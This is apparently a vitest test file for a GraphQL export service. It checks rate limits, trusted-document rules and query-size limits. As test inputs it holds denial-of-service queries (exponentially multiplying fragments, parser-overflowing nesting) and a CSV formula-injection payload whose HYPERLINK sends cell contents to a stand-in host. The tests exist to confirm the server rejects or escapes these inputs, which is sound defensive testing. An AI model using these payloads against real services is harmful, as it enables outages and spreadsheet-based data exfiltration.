import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { cooperation } from '../../../src/cooperation/ontology.ts';
import { limits } from '../../../src/graphql/limits.ts';
import { allThings, createPagedServer } from '../../server/paged-server.ts';

const rateLimit = { requests: 5, seconds: 50 };

/** Fragments each of which spreads the next one twice: two to the power of 40 fields. */
const doubled = (type: string, fields: string) =>
  Array.from({ length: 40 }, (_, at) => {
    const inside = at < 39 ? `...f${at + 1} ...f${at + 1}` : fields;
    return `fragment f${at} on ${type} { ${inside} }`;
  }).join(' ');

const numbersIn = (text: string) =>
  text
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line).number);

describe('a graph that is to be exported', () => {
  it('is rejected while an import is pending, with what to do', async () => {
    const pending = [false, ['labs.csv'], 'digest', 12_000, 25_000];
    const read = async ({ name }: { name: string }) => (name === 'import-marker-find' ? [pending] : [[0]]);
    const { server } = createPagedServer({ context: () => ({ graph: { ontology: cooperation, read } }) });
    const response = await server.fetch(new Request('http://silkgraph/export?format=jsonl&kind=PARK'));
    expect(response.status).toBe(503);
    const [error] = (await response.json()).errors;
    expect(error.message).toMatch(
      /^An import of labs\.csv stopped after 12000 of 25000 records\. Run that import again/,
    );
    expect(error.extensions).toEqual({ code: 'DATABASE_UNAVAILABLE' });
  });
});

describe('a question that is to be exported', () => {
  it.each([
    ['with fragments that multiply', `{ things { nodes { ...f0 } } } ${doubled('Thing', 'number')}`],
    ['with fragments that multiply, and no list', `{ things { ...f0 } } ${doubled('ThingConnection', '__typename')}`],
    ['that overflows a parser', `${'{a'.repeat(4_000)}${'}'.repeat(4_000)}`],
    ['that is too long', `${allThings.query} # ${'x'.repeat(limits.characters)}`],
  ])('%s is refused before anybody is asked', async (_, query) => {
    const { post } = createPagedServer({ rateLimit });
    const response = await post('/export', { query, format: 'jsonl' });
    expect(response.status).toBe(400);
    expect((await response.json()).errors[0].extensions).toEqual({ code: 'LIMIT_EXCEEDED' });
    expect(response.headers.get('ratelimit')).toMatch(/r=4;/);
  });

  it('with variables too deep to be passed on is refused', async () => {
    const { server } = createPagedServer();
    const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    const response = await server.fetch(
      new Request('http://silkgraph/export', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: `{"query":"query ($a: Int) { things(first: $a) { nodes { text } } }","variables":{"a":${deep}},"format":"csv"}`,
      }),
    );
    expect(response.status).toBe(400);
    expect((await response.json()).errors[0].extensions.code).toBe('LIMIT_EXCEEDED');
  });

  it('counts as a request, and so does each of its pages', async () => {
    const { post } = createPagedServer({ rateLimit, pages: 3, text: 'x' });
    const refused = await post('/export', { format: 'jsonl' });
    expect([refused.status, refused.headers.get('ratelimit')]).toEqual([400, '"requests";r=4;t=10']);
    const response = await post('/export', allThings);
    expect(response.headers.get('ratelimit')).toBe('"requests";r=2;t=30');
    expect(numbersIn(await response.text())).toEqual([1, 2, 3]);
    const none = await post('/graphql', { query: '{ __typename }' });
    expect(none.status).toBe(429);
  });

  it('says when to come again where its first page is one too many', async () => {
    const { post } = createPagedServer({ rateLimit: { requests: 1, seconds: 60 } });
    const response = await post('/export', allThings);
    expect(response.status).toBe(429);
    expect(Object.fromEntries(response.headers)).toMatchObject({
      'retry-after': '60',
      ratelimit: '"requests";r=0;t=60',
      'ratelimit-policy': '"requests";q=1;w=60',
    });
    expect((await response.json()).errors[0].extensions.code).toBe('RATE_LIMITED');
  });
});

describe('where only trusted documents are answered', () => {
  const { query } = allThings;
  const id = createHash('sha256').update(query).digest('hex');
  const trustedDocuments = new Map([[id, query]]);
  const { post } = createPagedServer({ trustedDocuments, pages: 3, text: 'x' });
  const named = (sha256Hash: string) => ({ persistedQuery: { version: 1, sha256Hash } });

  it.each([
    ['text', { query }],
    ['id', { extensions: named(id) }],
    ['id with its prefix', { extensions: named(`sha256:${id}`) }],
  ])('one is exported in all its pages, by its %s', async (_, document) => {
    const response = await post('/export', { ...document, format: 'jsonl' });
    expect(response.status).toBe(200);
    expect(numbersIn(await response.text())).toEqual([1, 2, 3]);
    const table = await post('/export', { ...document, format: 'csv' });
    expect((await table.text()).split('\r\n')).toHaveLength(5);
    const whole = await post('/export', { ...document, format: 'json' });
    expect((await whole.json()).things.nodes).toHaveLength(1);
  });

  it('no other is, nor what was made of one', async () => {
    for (const format of ['json', 'jsonl', 'csv']) {
      const response = await post('/export', { query: `${query} `, format });
      expect(response.status, format).toBe(403);
      expect((await response.json()).errors[0].extensions.code).toBe('FORBIDDEN');
    }
    expect((await post('/export', { extensions: named('0'), format: 'csv' })).status).toBe(400);
    await (await post('/export', allThings)).text();
    const made = `query ($exportAfter: String) {
  things(first: 100, after: $exportAfter) {
    nodes {
      number
      text
    }
    exportPage: pageInfo {
      hasNextPage
      endCursor
    }
  }
}`;
    expect((await post('/graphql', { query: made })).status).toBe(403);
    expect((await createPagedServer({ pages: 1 }).post('/graphql', { query: made })).status).toBe(200);
  });
});

describe('a table of an answer', () => {
  it('guards what a program for tables would take for a formula', async () => {
    const { post } = createPagedServer({ pages: 1, text: '-1+HYPERLINK("http://x/?"&A2)' });
    const response = await post('/export', { ...allThings, format: 'csv' });
    expect(await response.text()).toBe('number,text\r\n1,"\'-1+HYPERLINK(""http://x/?""&A2)"\r\n');
  });
});
